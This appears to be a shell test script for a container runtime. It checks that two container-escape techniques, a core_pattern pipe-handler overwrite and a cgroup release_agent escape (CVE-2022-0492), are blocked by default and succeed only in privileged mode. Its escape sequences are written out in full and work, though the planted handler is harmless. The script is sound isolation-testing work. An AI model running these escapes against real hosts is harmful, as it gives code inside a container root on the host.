# Attempts whose success would harm the host: here that is this machine. With defaults nothing comes of them; privileged, with the host's ids, the
# kernel runs on the host what the workload named (CVE-2022-0492 is the second). Sourced by inside.sh.

mkdir -p /escapes
cat >/escapes/handler <<'HANDLER'
#!/bin/sh
cat >/dev/null 2>&1
echo "$(id -u) $(readlink /proc/self/ns/mnt)" >/escapes/ran
HANDLER
chmod 755 /escapes/handler

# attempt DEED OPTIONS...: what it said. The directory is the workload's own too, so that what the kernel is told to run is where it looks for it.
attempt() {
  deed=$1
  shift
  rm -f /escapes/ran
  $bulkhead run --rm --network none -v /escapes:/escapes "$@" busybox sh -c "$deed" 2>&1
}
ran_on_host() { [ "$(cat /escapes/ran 2>/dev/null)" = "0 $(readlink /proc/1/ns/mnt)" ]; }
never_ran() {
  sleep 3
  [ ! -e /escapes/ran ] || { echo "ran: $(cat /escapes/ran)"; return 1; }
}

core_pattern='put() { echo "|/escapes/handler" >/proc/sys/kernel/core_pattern; }; put; mount -o remount,rw /proc; mount -o remount,rw /proc/sys; put
mkdir /own; mount -t proc none /own && echo "|/escapes/handler" >/own/sys/kernel/core_pattern
sh -c "kill -SEGV \$\$; true"; true'
core_handled() {
  before=$(cat /proc/sys/kernel/core_pattern)
  said=$(attempt "$core_pattern")
  contains "$said" "Read-only file system" || return 1
  expect "$before" "$(cat /proc/sys/kernel/core_pattern)" && never_ran || return 1
  said=$(attempt "$core_pattern" --privileged --userns host)
  within 20 ran_on_host
  status=$?
  echo "$before" >/proc/sys/kernel/core_pattern
  [ "$status" = 0 ] || echo "the control did not come through: $said"
  return "$status"
}

# Of a hierarchy of its own, which needs no controller that version 2 has taken.
release_agent='deed() {
  mkdir -p /own && mount -t cgroup -o none,name=escape none /own && mkdir -p /own/emptied && echo 1 >/own/emptied/notify_on_release &&
    echo /escapes/handler >/own/release_agent && sh -c "echo \$\$ >/own/emptied/cgroup.procs" && sleep 2
  rmdir /own/emptied; umount /own
}
if [ "$1" = inside ]; then deed; else deed; unshare -U -r -m sh -c "$(cat /escapes/deed)" - inside; fi; true'
agent_run() {
  echo "$release_agent" >/escapes/deed
  said=$(attempt "$release_agent")
  contains "$said" "ermission denied" && never_ran || return 1
  said=$(attempt "$release_agent" --privileged --userns host --cgroupns host)
  within 20 ran_on_host && return 0
  echo "the control did not come through: $said"
  return 1
}
check "a core_pattern of a workload's is run by the kernel on the host where it is privileged, and with defaults cannot be written" core_handled
check "a release_agent of a workload's is run by the kernel on the host where it is privileged, and with defaults no control groups are mounted" agent_run
rm -rf /escapes
